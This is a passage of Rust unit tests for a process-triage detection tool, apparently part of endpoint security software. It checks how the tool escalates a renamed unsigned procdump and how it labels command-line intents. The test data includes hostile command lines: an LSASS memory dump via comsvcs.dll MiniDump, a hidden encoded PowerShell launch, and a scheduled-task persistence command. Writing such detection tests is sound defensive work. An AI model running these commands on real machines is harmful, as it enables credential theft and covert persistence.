        x.set("process.pe.original_file_name", "procdump.exe");
        x.set("process.code_signature.exists", false);
        evs.push(x.clone());
        let t = triage(&x, "dc1", &investigation(&evs)).expect("start");
        let concerns = t["identity"]["concerns"].to_string();
        assert!(concerns.contains("renamed"), "{t:#}");
        assert!(concerns.contains("unsigned"), "{t:#}");
        assert!(concerns.contains("user-writable"), "{t:#}");
        assert_eq!(t["verdict"], "escalate");
    }

    #[test]
    fn intents_and_kinds() {
        assert_eq!(
            intents_of("schtasks /Create /tn x /tr c:\\x.exe"),
            ["persistence"]
        );
        assert_eq!(
            intents_of(
                "rundll32.exe C:\\windows\\System32\\comsvcs.dll, MiniDump 624 C:\\lsass.dmp full"
            ),
            ["credential access"]
        );
        assert_eq!(
            intents_of("sc.exe config dns start= auto"),
            ["service change"]
        );
        assert_eq!(
            intents_of("powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0A"),
            ["script execution"]
        );
        assert!(intents_of("C:\\Windows\\system32\\WerFault.exe -u -p 2000 -s 412").is_empty());
        assert_eq!(kind_of("WerFault.exe"), Some("crash handler"));
        assert_eq!(kind_of("PowerShell.EXE"), Some("shell"));
        assert_eq!(kind_of("backgroundTaskHost.exe"), None);
        // every pattern compiles
        assert_eq!(intents().len(), INTENTS.len());
    }

    #[test]
    fn not_a_process_start_has_no_triage() {
        let inv = investigation(&dc("DC1"));
        let e = activity("DC1", "D", "network", "destination.ip", "10.0.0.1", 3);
        assert!(triage(&e, "dc1", &inv).is_none());
    }
}
